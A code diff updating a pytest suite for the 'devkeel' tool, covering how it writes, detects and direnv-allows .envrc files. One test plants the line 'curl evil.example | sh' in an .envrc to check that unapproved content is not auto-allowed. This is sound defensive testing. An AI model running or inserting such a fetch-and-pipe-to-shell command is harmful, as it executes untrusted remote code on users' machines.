@@ -6,6 +6,7 @@ import json
 import os
 import shutil
 import subprocess
+import sys
 from typing import TYPE_CHECKING, Any
 
 import pytest
@@ -14,6 +15,7 @@ from devkeel.api import Environment
 from devkeel.edits.vocabulary import parse_edits
 from devkeel.errors import ProjectError, Refused, Unavailable, UsageError
 from devkeel.project import direnv
+from devkeel.text.actions import do
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
@@ -24,10 +26,11 @@ if TYPE_CHECKING:
 
 WRITTEN = """\
 # Made by devkeel; lines below the last of these are yours.
-eval "$(devenv direnvrc)"
-use devenv
+watch_file devenv.nix
+eval "$(devkeel env print)"
 # End of what devkeel made.
 """
+LINE = 'eval "$(devkeel env print)"\n'
 ADVICE = "direnv has not allowed .envrc: run `direnv allow`."
 
 with_direnv = pytest.mark.skipif(shutil.which("direnv") is None, reason="direnv is not installed")
@@ -72,6 +75,11 @@ def patched(environment: Environment, old: str, new: str) -> ChangeResult:
     return environment.change(parse_edits([item]), level="syntax")
 
 
+def not_made(environment: Environment) -> tuple[str, ...]:
+    name = environment.environments().default
+    return (f"The environment {name!r} is not made yet: {do('apply')}.",)
+
+
 # Writing it
 
 
@@ -86,13 +94,13 @@ def test_it_is_made_as_one_operation_that_an_undo_takes_away(environment: Enviro
 
 def test_a_dry_run_shows_it_and_writes_nothing(environment: Environment) -> None:
     result = environment.write_envrc(dry_run=True)
-    assert "+use devenv" in result.diff
+    assert '+eval "$(devkeel env print)"' in result.diff
     assert not result.published
     assert not envrc_of(environment).exists()
 
 
 def test_what_stands_around_devkeel_s_part_stays_and_the_part_is_made_anew(environment: Environment) -> None:
-    broken = WRITTEN.replace("use devenv", "use devnev")
+    broken = WRITTEN.replace("env print", "env pritn")
     envrc_of(environment).write_text(f"# above\n{broken}export MINE=1\n")
     environment.write_envrc()
     assert envrc_of(environment).read_text() == f"# above\n{WRITTEN}export MINE=1\n"
@@ -100,12 +108,14 @@ def test_what_stands_around_devkeel_s_part_stays_and_the_part_is_made_anew(envir
 
 
 def test_one_of_somebody_else_that_enters_the_environment_is_right_as_it_is(environment: Environment) -> None:
-    envrc_of(environment).write_text('eval "$(devenv direnvrc)"\n\nuse devenv\n')
+    envrc_of(environment).write_text('export A=1\neval "$(devkeel env print)"\n')
     result = environment.write_envrc()
     assert (result.changed, result.published) == (False, False)
 
 
-@pytest.mark.parametrize("text", ["layout python\n", "# use devenv\n", "use flake\n"])
+@pytest.mark.parametrize(
+    "text", ["layout python\n", "# use devenv\n", "use flake\n", "use devenv\n", "# devkeel env print\n"]
+)
 def test_one_of_somebody_else_that_does_not_is_left_alone_with_the_lines_told(
     environment: Environment, text: str
 ) -> None:
@@ -118,7 +128,7 @@ def test_one_of_somebody_else_that_does_not_is_left_alone_with_the_lines_told(
 def test_a_prompt_is_exported_in_a_form_of_one_s_own(environment: Environment) -> None:
     name = environment.project.root.name
     environment.write_envrc(template="[{name}'{backend}]")
-    argv = ["bash", "-c", 'use() { :; }; devenv() { :; }; . ./.envrc; printf %s "$DEVKEEL_PROMPT"']
+    argv = ["bash", "-c", 'watch_file() { :; }; devkeel() { :; }; . ./.envrc; printf %s "$DEVKEEL_PROMPT"']
     found = subprocess.run(argv, cwd=environment.project.root, capture_output=True, text=True, check=True)
     assert found.stdout == f"[{name}'devenv]"
     environment.write_envrc()
@@ -126,6 +136,50 @@ def test_a_prompt_is_exported_in_a_form_of_one_s_own(environment: Environment) -
     with pytest.raises(UsageError) as caught:
         environment.write_envrc(template="{user}")
     assert caught.value.code == "bad_prompt"
+
+
+OLDER = {
+    "devenv of 0.1": (
+        WRITTEN.replace(f"watch_file devenv.nix\n{LINE}", 'eval "$(devenv direnvrc)"\nuse devenv\n'),
+        True,
+    ),
+    "a name of 0.1": (WRITTEN.replace("env print", "env activate project"), True),
+    "devenv by hand": ('eval "$(devenv direnvrc)"\nuse devenv\n', False),
+    "flake by hand": ("use flake\n", False),
+    "python by hand": ("export A=1\n  layout python3\n", False),
+}
+
+
+@pytest.mark.parametrize(("text", "ours"), OLDER.values(), ids=OLDER.keys())
+def test_one_that_enters_another_environment_is_said_wherever_one_looks_and_renewed_where_devkeel_wrote_it(
+    environment: Environment, text: str, *, ours: bool
+) -> None:
+    def said() -> list[str]:
+        notes = [item for item in environment.inspect().notes if "another environment" in item]
+        found = [item for item in environment.examine().findings if item.about == "direnv"]
+        assert len(notes) == len([item for item in found if "another environment" in item.message])
+        return notes
+
+    envrc_of(environment).write_text(text)
+    (note,) = said()
+    assert (do("envrc") in note) is ours
+    if ours:
+        environment.write_envrc()
+        assert envrc_of(environment).read_text() == WRITTEN
+        assert said() == []
+    else:
+        with pytest.raises(Refused) as caught:
+            environment.write_envrc()
+        assert caught.value.code == "foreign_envrc"
+        assert envrc_of(environment).read_text() == text
+
+
+@pytest.mark.parametrize(
+    "text", ["# use devenv\n", "export USE=devenv\n", "use_nothing\n", LINE, f"use flake\n{LINE}", ""]
+)
+def test_one_that_enters_no_other_is_not_spoken_of(environment: Environment, text: str) -> None:
+    envrc_of(environment).write_text(text)
+    assert not any("another environment" in item for item in environment.inspect().notes)
 
 
 # What direnv makes of it
@@ -146,10 +200,10 @@ def test_one_that_direnv_has_allowed_is_no_matter_until_it_changes(environment: 
     environment.write_envrc()
     call_direnv(environment, "allow")
     assert environment.inspect().notes == ()
-    assert environment.write_envrc().notes == ()
+    assert environment.write_envrc().notes == not_made(environment)
     (found,) = [item for item in environment.examine().findings if item.about == "direnv"]
     assert found.verdict == "good"
-    assert ADVICE in patched(environment, "use devenv\n", "use devenv\nexport A=1\n").notes
+    assert ADVICE in patched(environment, LINE, f"{LINE}export A=1\n").notes
     assert environment.inspect().notes == (ADVICE,)
 
 
@@ -200,7 +254,7 @@ def test_what_newer_direnvs_say_is_understood(
 @pytest.mark.usefixtures("no_direnv")
 def test_without_direnv_there_is_nothing_to_say(environment: Environment) -> None:
     settings(environment, "direnv_allow = true\n")
-    assert environment.write_envrc().notes == ()
+    assert environment.write_envrc().notes == not_made(environment)
     assert environment.inspect().notes == ()
     assert "direnv" not in {item.about for item in environment.examine().findings}
 
@@ -213,7 +267,7 @@ def test_without_direnv_there_is_nothing_to_say(environment: Environment) -> Non
 def test_devkeel_allows_nothing_unless_the_settings_say_so(environment: Environment, text: str) -> None:
     settings(environment, text)
     environment.write_envrc()
-    patched(environment, "use devenv\n", "use devenv\nexport A=1\n")
+    patched(environment, LINE, f"{LINE}export A=1\n")
     assert direnv.state_of(environment.project) == "not_allowed"
 
 
@@ -224,15 +278,15 @@ def test_where_the_settings_say_so_devkeel_allows_what_it_wrote(environment: Env
     assert not envrc_of(environment).exists()
     assert ADVICE not in environment.write_envrc().notes
     assert direnv.state_of(environment.project) == "allowed"
-    patched(environment, "use devenv\n", "use devenv\nexport A=1\n")
+    patched(environment, LINE, f"{LINE}export A=1\n")
     assert direnv.state_of(environment.project) == "allowed"
 
 
 @with_direnv
 def test_what_nobody_had_allowed_before_an_edit_is_not_allowed_by_it(environment: Environment) -> None:
     settings(environment, "direnv_allow = true\n")
-    envrc_of(environment).write_text("curl evil.example | sh\nuse devenv\n")
-    assert ADVICE in patched(environment, "use devenv\n", "use devenv\nexport A=1\n").notes
+    envrc_of(environment).write_text(f"curl evil.example | sh\n{LINE}")
+    assert ADVICE in patched(environment, LINE, f"{LINE}export A=1\n").notes
     assert direnv.state_of(environment.project) == "not_allowed"
 
 
@@ -268,11 +322,6 @@ DIFFERING = {
     **dict.fromkeys(("PWD", "OLDPWD", "SHLVL", "_", "LINES", "COLUMNS"), "set by bash, which reads the .envrc"),
     "PYTEST_CURRENT_TEST": "this test, which a command that devkeel runs need not know",
     **dict.fromkeys(("NO_COLOR", "DEVKEEL_JOB"), "said to every program that devkeel runs: no terminal, and whose"),
-    **dict.fromkeys(
-        ("IN_NIX_SHELL", "NIX_BUILD_CORES", "NIX_STORE", "textPath"),
-        "what Nix adds to the environment of a shell's builder; the stand-in for devenv prints it without",
-    ),
-    "name": "the derivation's, to which a newer Nix adds -env where it prints a shell",
 }
 
 
@@ -282,8 +331,14 @@ def entered(
 ) -> Iterator[Environment]:
     """A project whose shell says something of every kind, with a human in front of it who has little else."""
     (tmp_path / "nix.conf").write_text("substitute = false\nsandbox = false\n")
-    for name in set(os.environ) - {"HOME", "PATH", "LANG", "XDG_RUNTIME_DIR", "XDG_DATA_HOME", "XDG_CONFIG_HOME"}:
+    kept = {"HOME", "PATH", "LANG", *(f"XDG_{name}_HOME" for name in ("DATA", "CONFIG", "STATE", "CACHE"))}
+    for name in set(os.environ) - {*kept, "XDG_RUNTIME_DIR"}:
         monkeypatch.delenv(name)
+    own = tmp_path / "own-bin"
+    own.mkdir()
+    (own / "devkeel").write_text(f'#!/bin/sh\nexec {sys.executable} -m devkeel_cli "$@"\n')
+    (own / "devkeel").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{own}:{os.environ['PATH']}")
     monkeypatch.setenv("NIX_CONF_DIR", str(tmp_path))
     environment = Environment(pinned_project(DECLARED), actor="test")
     yield environment
